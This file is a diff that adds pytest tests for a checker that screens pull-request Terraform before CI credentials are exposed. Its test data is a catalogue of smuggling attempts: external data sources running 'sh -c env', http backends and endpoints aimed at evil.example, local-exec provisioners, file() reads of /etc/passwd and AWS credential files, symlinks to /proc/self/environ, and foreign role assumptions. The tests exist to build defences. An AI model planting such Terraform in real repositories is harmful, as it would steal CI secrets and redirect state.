@@ -1,0 +1,361 @@
+"""A pull request's Terraform is read before anything with credentials is; each exploit is refused by its own reason."""
+
+from __future__ import annotations
+
+import base64
+import json
+import shutil
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from groundwork.preflight.check import Rules, admit, leaks
+from groundwork.preflight.secrets import canaries
+from groundwork.refusals import Code
+from stacks.values import load_all
+
+Terraform = dict[str, Any]
+
+
+class PullRequest:
+    """The synthesised output of a pull request as main's, of one environment and without big zips: quick to edit."""
+
+    def __init__(self, synthesised: Path, out: Path, checkout: Path) -> None:
+        self.out = out
+        self.rules = Rules({e.name: e for e in load_all(checkout / "environments")}, checkout / "stacks/provider_locks")
+        shutil.copytree(synthesised, out, ignore=_not_needed)
+        manifest = json.loads((out / "manifest.json").read_text())
+        manifest["stacks"] = {name: one for name, one in manifest["stacks"].items() if name.startswith("dev-")}
+        (out / "manifest.json").write_text(json.dumps(manifest))
+
+    def folder(self, stack: str = "dev-workloads") -> Path:
+        return self.out / "stacks" / stack
+
+    def write(self, text: str, stack: str = "dev-workloads") -> None:
+        (self.folder(stack) / "cdk.tf.json").write_text(text, encoding="utf-8")
+
+    def terraform(self, stack: str = "dev-workloads") -> Terraform:
+        read: Terraform = json.loads((self.folder(stack) / "cdk.tf.json").read_bytes())
+        return read
+
+    def edit(self, change: Callable[[Terraform], object], stack: str = "dev-workloads") -> None:
+        terraform = self.terraform(stack)
+        change(terraform)
+        self.write(json.dumps(terraform), stack)
+
+    def codes(self) -> set[Code]:
+        return {one.code for one in admit(self.out, self.rules)}
+
+    def reasons(self) -> list[str]:
+        return [str(one) for one in admit(self.out, self.rules)]
+
+
+@pytest.fixture
+def pull_request(synthesised: Path, checkout: Path, tmp_path: Path) -> PullRequest:
+    return PullRequest(synthesised, tmp_path / "cdktf.out", checkout)
+
+
+def test_what_main_synthesises_is_admitted(synthesised: Path, pull_request: PullRequest) -> None:
+    assert admit(synthesised, pull_request.rules) == []
+    assert pull_request.reasons() == []
+
+
+def test_the_same_terraform_written_with_lists_of_blocks_is_admitted_too(pull_request: PullRequest) -> None:
+    def as_lists(terraform: Terraform) -> None:
+        terraform["data"] = [{kind: [named]} for kind, named in terraform["data"].items()]
+        terraform["terraform"] = [terraform["terraform"]]
+
+    pull_request.edit(as_lists)
+    assert pull_request.reasons() == []
+
+
+@pytest.mark.parametrize(
+    "smuggle",
+    [
+        lambda t: t["terraform"]["required_providers"].update(null={"source": "hashicorp/null", "version": "3.2.4"}),
+        lambda t: t["terraform"]["required_providers"]["aws"].update(source="evil/aws"),
+        lambda t: t["terraform"]["required_providers"]["aws"].update(version="5.99.0"),
+        lambda t: t["terraform"]["required_providers"]["aws"].pop("version"),
+        lambda t: t["terraform"]["required_providers"]["aws"].update(configuration_aliases=["x"]),
+        lambda t: t["resource"].update(null_resource={"x": {}}),
+        lambda t: t["provider"].update(null=[{}]),
+        lambda t: t["provider"]["aws"][0].update(allowed_account_ids=["999999999999"]),
+        lambda t: t["provider"]["aws"][0].pop("allowed_account_ids"),
+        lambda t: t["provider"]["aws"][0].update(shared_credentials_files=["/home/runner/.aws/credentials"]),
+        lambda t: t["provider"]["aws"].append({"alias": "other", "region": "eu-west-2", "profile": "admin"}),
+        lambda t: t["provider"]["helm"][0]["kubernetes"]["exec"].update(command="sh", args=["-c", "env"]),
+        lambda t: t["provider"]["helm"][0]["kubernetes"]["exec"].update(env={"AWS_PROFILE": "x"}),
+        lambda t: t["provider"]["helm"][0].update(registries=[{"url": "oci://evil", "username": "a", "password": "b"}]),
+        lambda t: t["provider"]["helm"][0].update(helm_driver="sql"),
+    ],
+)
+def test_refuses_provider_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
+    pull_request.edit(smuggle)
+    assert pull_request.codes() == {Code.PROVIDER_NOT_ALLOWED}
+
+
+def test_refuses_module_not_allowed(pull_request: PullRequest) -> None:
+    pull_request.edit(lambda t: t.update(module={"x": {"source": "git::https://evil.example/x.git"}}))
+    assert pull_request.codes() == {Code.MODULE_NOT_ALLOWED}
+
+
+@pytest.mark.parametrize("block", ["check", "import", "removed", "action", "list", "anything"])
+def test_refuses_block_not_allowed(pull_request: PullRequest, block: str) -> None:
+    pull_request.edit(lambda t: t.update({block: {"x": {}}}))
+    assert pull_request.codes() == {Code.BLOCK_NOT_ALLOWED}
+
+
+def test_refuses_block_not_allowed_where_a_key_is_there_twice(pull_request: PullRequest) -> None:
+    text = (pull_request.folder() / "cdk.tf.json").read_text()
+    # Terraform sees two `data` blocks here, Python's reader only the harmless second one.
+    pull_request.write('{"data": {"external": {"x": {"program": ["env"]}}},' + text.lstrip()[1:])
+    assert pull_request.codes() == {Code.BLOCK_NOT_ALLOWED}
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"external": {"x": {"program": ["sh", "-c", "env"]}}},
+        {"http": {"x": {"url": "https://evil.example"}}},
+        {"local_file": {"x": {"filename": "/proc/self/environ"}}},
+        {"aws_secretsmanager_secret_version": {"x": {"secret_id": "prod/db"}}},
+        {"aws_ssm_parameter": {"x": {"name": "/prod/db"}}},
+        {"aws_s3_object": {"x": {"bucket": "b", "key": "k"}}},
+        {"aws_lambda_invocation": {"x": {"function_name": "f", "input": "{}"}}},
+    ],
+)
+@pytest.mark.parametrize("as_list", [False, True])
+def test_refuses_data_source_not_allowed(pull_request: PullRequest, data: Terraform, as_list: bool) -> None:
+    def smuggle(terraform: Terraform) -> None:
+        terraform["data"] = [terraform["data"], data] if as_list else {**terraform["data"], **data}
+
+    pull_request.edit(smuggle)
+    assert Code.DATA_SOURCE_NOT_ALLOWED in pull_request.codes()
+
+
+def test_refuses_data_source_not_allowed_as_an_ephemeral_one(pull_request: PullRequest) -> None:
+    pull_request.edit(lambda t: t.update(ephemeral={"aws_secretsmanager_secret_version": {"x": {"secret_id": "y"}}}))
+    assert pull_request.codes() == {Code.DATA_SOURCE_NOT_ALLOWED}
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"provisioner": {"local-exec": {"command": "env"}}},
+        {"provisioner": [{"remote-exec": {"inline": ["env"]}}]},
+        {"connection": {"type": "ssh", "private_key": "x"}},
+    ],
+)
+def test_refuses_provisioner_not_allowed(pull_request: PullRequest, body: Terraform) -> None:
+    pull_request.edit(lambda t: t["resource"].update(terraform_data={"x": body}))
+    assert pull_request.codes() == {Code.PROVISIONER_NOT_ALLOWED}
+
+
+@pytest.mark.parametrize(
+    "smuggle",
+    [
+        lambda t: t["terraform"].update(backend={"http": {"address": "https://evil.example"}}),
+        lambda t: t["terraform"].update(backend={"local": {}}),
+        lambda t: t["terraform"].pop("backend"),
+        lambda t: t["terraform"].update(cloud={"organization": "evil"}),
+        lambda t: t["terraform"]["backend"]["s3"].update(bucket="evil"),
+        lambda t: t["terraform"]["backend"]["s3"].update(key="prod/workloads.tfstate"),
+        lambda t: t["terraform"]["backend"]["s3"].update(key="dev/network.tfstate"),
+        lambda t: t["terraform"]["backend"]["s3"].update(encrypt=False),
+        lambda t: t["terraform"]["backend"]["s3"].update(profile="admin"),
+        lambda t: _remote(t).update(backend="http"),
+        lambda t: _remote(t)["config"].update(key="prod/cluster.tfstate"),
+        lambda t: _remote(t)["config"].update(bucket="acme-prod-state-333333333333"),
+        lambda t: _remote(t).update(workspace="other"),
+        lambda t: _remote(t).update(defaults={"x": "y"}),
+    ],
+)
+def test_refuses_backend_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
+    pull_request.edit(smuggle)
+    assert pull_request.codes() == {Code.BACKEND_NOT_ALLOWED}
+
+
+def test_refuses_backend_not_allowed_for_an_environment_that_main_does_not_know(pull_request: PullRequest) -> None:
+    path = pull_request.out / "manifest.json"
+    manifest = json.loads(path.read_text())
+    manifest["stacks"]["evil-api"] = {**manifest["stacks"]["dev-network"], "name": "evil-api"}
+    path.write_text(json.dumps(manifest))
+    (refusal,) = admit(pull_request.out, pull_request.rules)
+    assert refusal.code == Code.BACKEND_NOT_ALLOWED
+    assert "merge its file first" in refusal.sentence
+
+
+@pytest.mark.parametrize(
+    "smuggle",
+    [
+        lambda t: t["provider"]["aws"][0].update(endpoints=[{"sts": "https://evil.example"}]),
+        lambda t: t["provider"]["aws"][0].update(https_proxy="https://evil.example"),
+        lambda t: t["provider"]["aws"][0].update(custom_ca_bundle="assets/ca.pem"),
+        lambda t: t["terraform"]["backend"]["s3"].update(endpoints={"s3": "https://evil.example"}),
+        lambda t: t["terraform"]["backend"]["s3"].update(http_proxy="https://evil.example"),
+        lambda t: _remote(t)["config"].update(endpoints={"s3": "https://evil.example"}),
+        lambda t: t["provider"]["helm"][0]["kubernetes"].update(host="https://evil.example"),
+    ],
+)
+def test_refuses_endpoint_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
+    pull_request.edit(smuggle)
+    assert pull_request.codes() == {Code.ENDPOINT_NOT_ALLOWED}
+
+
+@pytest.mark.parametrize(
+    "smuggle",
+    [
+        lambda t: t["provider"]["aws"][0].update(assume_role=[{"role_arn": "arn:aws:iam::999999999999:role/evil"}]),
+        lambda t: t["provider"]["aws"][0].update(
+            assume_role=[{"role_arn": "arn:aws:iam::444444444444:role/groundwork-deploy", "policy": "{}"}]
+        ),
+        lambda t: t["provider"]["aws"][0].update(
+            assume_role_with_web_identity=[{"role_arn": "arn:aws:iam::111111111111:role/x"}]
+        ),
+        lambda t: t["terraform"]["backend"]["s3"].update(assume_role={"role_arn": "arn:aws:iam::999999999999:role/x"}),
+        lambda t: t["terraform"]["backend"]["s3"].update(role_arn="arn:aws:iam::999999999999:role/x"),
+    ],
+)
+def test_refuses_assume_role_not_allowed(pull_request: PullRequest, smuggle: Callable[[Terraform], object]) -> None:
+    pull_request.edit(smuggle)
+    assert pull_request.codes() == {Code.ASSUME_ROLE_NOT_ALLOWED}
+
+
+@pytest.mark.parametrize(
+    "expression",
+    [
+        '${file("/proc/self/environ")}',
+        '${filebase64("../../../../etc/passwd")}',
+        '${ file ( "assets/../../x" ) }',
+        '${file(join("/", ["", "etc", "passwd"]))}',
+        '${file/* harmless */("/etc/passwd")}',
+        '${templatefile("assets/x.tpl", {})}',
+        "${templatestring(local.text, {})}",
+        '%{ if file("/etc/passwd") != "" }x%{ endif }',
+        '${fileexists("/home/runner/.aws/credentials")}',
+        '${join("", fileset("/", "**"))}',
+        '${core::file("/etc/passwd")}',
+    ],
+)
+@pytest.mark.parametrize("where", ["value", "key", "output", "local"])
+def test_refuses_file_outside_stack_in_an_expression(pull_request: PullRequest, expression: str, where: str) -> None:
+    places: dict[str, Callable[[Terraform], object]] = {
+        "value": lambda t: t["resource"].update(terraform_data={"x": {"input": {"a": [expression]}}}),
+        "key": lambda t: t["resource"].update(terraform_data={"x": {"input": {expression: "a"}}}),
+        "output": lambda t: t.update(output={"x": {"value": expression}}),
+        "local": lambda t: t.update(locals={"x": expression}),
+    }
+    pull_request.edit(places[where])
+    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}
+
+
+def test_a_file_of_the_stack_may_be_read_and_text_that_only_looks_like_a_call_stays(pull_request: PullRequest) -> None:
+    def change(terraform: Terraform) -> None:
+        terraform["resource"]["terraform_data"] = {
+            "x": {"input": ['${filesha256("assets/x.zip")}', "the file (see below)", "${upper(local.profile)}"]}
+        }
+
+    pull_request.edit(change)
+    assert pull_request.reasons() == []
+
+
+@pytest.mark.parametrize("value", ["/etc/passwd", "../../other/assets/x.zip", "assets/../../x", "cdk.tf.json", "${x}"])
+def test_refuses_file_outside_stack_as_a_functions_zip(pull_request: PullRequest, value: str) -> None:
+    def smuggle(terraform: Terraform) -> None:
+        next(iter(terraform["resource"]["aws_lambda_function"].values()))["filename"] = value
+
+    pull_request.edit(smuggle, "dev-api")
+    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}
+
+
+def test_refuses_file_outside_stack_as_a_link(pull_request: PullRequest) -> None:
+    (pull_request.folder() / "assets" / "environ").symlink_to("/proc/self/environ")
+    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}
+
+
+def test_refuses_file_outside_stack_as_a_stacks_folder(pull_request: PullRequest) -> None:
+    path = pull_request.out / "manifest.json"
+    manifest = json.loads(path.read_text())
+    manifest["stacks"]["dev-network"]["workingDirectory"] = "../elsewhere"
+    path.write_text(json.dumps(manifest))
+    assert pull_request.codes() == {Code.FILE_OUTSIDE_STACK}
+
+
+@pytest.mark.parametrize(
+    "name", ["extra.tf", "override.tf.json", "x_override.tf", "terraform.tfvars", "x.auto.tfvars.json", ".terraform"]
+)
+def test_refuses_file_not_allowed(pull_request: PullRequest, name: str) -> None:
+    (pull_request.folder() / name).write_text("{}")
+    assert pull_request.codes() == {Code.FILE_NOT_ALLOWED}
+
+
+def test_refuses_lock_file_differs_before_init(pull_request: PullRequest) -> None:
+    lock = pull_request.folder() / ".terraform.lock.hcl"
+    lock.write_text(lock.read_text().replace("h1:", "h1:x"))
+    assert pull_request.codes() == {Code.LOCK_FILE_DIFFERS}
+
+
+@pytest.mark.parametrize(
+    "secret",
+    [
+        "AKIA" + "Q" * 16,
+        "ghp_" + "a" * 36,
+        "-----BEGIN RSA " + "PRIVATE KEY-----",
+        "postgres://app:hunter22@db.internal/app",
+        "xoxb-" + "1" * 24,
+    ],
+)
+def test_refuses_baked_secret_by_its_looks(pull_request: PullRequest, secret: str) -> None:
+    pull_request.edit(lambda t: t.update(output={"x": {"value": secret}}))
+    assert pull_request.codes() == {Code.BAKED_SECRET}
+    assert secret not in "".join(pull_request.reasons())
+
+
+def test_refuses_baked_secret_inside_a_functions_zip(pull_request: PullRequest) -> None:
+    with zipfile.ZipFile(pull_request.folder() / "assets" / "x.zip", "w") as archive:
+        archive.writestr("settings.py", "KEY = 'AKIA" + "Q" * 16 + "'")
+    assert pull_request.codes() == {Code.BAKED_SECRET}
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        lambda value: value,
+        lambda value: value[::-1],
+        lambda value: value.encode().hex(),
+        lambda value: base64.b64encode(value.encode()).decode(),
+        lambda value: base64.b64encode(f"password={value};".encode()).decode(),
+        lambda value: base64.urlsafe_b64encode(f"pw={value}".encode()).decode(),
+    ],
+)
+def test_refuses_baked_secret_that_came_from_the_environment(
+    pull_request: PullRequest, form: Callable[[str], str]
+) -> None:
+    planted = canaries()
+    assert leaks(pull_request.out, planted) == []
+    pull_request.edit(lambda t: t.update(output={"x": {"value": form(planted["DB_PASSWORD"])}}))
+    (refusal,) = leaks(pull_request.out, planted)
+    assert refusal.code == Code.BAKED_SECRET
+    assert "DB_PASSWORD" in refusal.sentence
+    assert planted["DB_PASSWORD"] not in str(refusal)
+
+
+def test_canaries_cover_every_variable_that_the_code_reads(tmp_path: Path) -> None:
+    (tmp_path / "stack.py").write_text("import os\nx = os.environ['MY_OWN']\ny = os.getenv(\"OTHER\")\n")
+    planted = canaries(tmp_path)
+    assert {"MY_OWN", "OTHER", "AWS_SECRET_ACCESS_KEY"} <= planted.keys()
+    assert len(set(planted.values())) == len(planted)
+
+
+def _not_needed(folder: str, names: list[str]) -> list[str]:
+    if Path(folder).name == "stacks":
+        return [name for name in names if not name.startswith("dev-")]
+    return [name for name in names if name.endswith(".zip")]
+
+
+def _remote(terraform: Terraform) -> Terraform:
+    found: Terraform = next(iter(terraform["data"]["terraform_remote_state"].values()))
+    return found
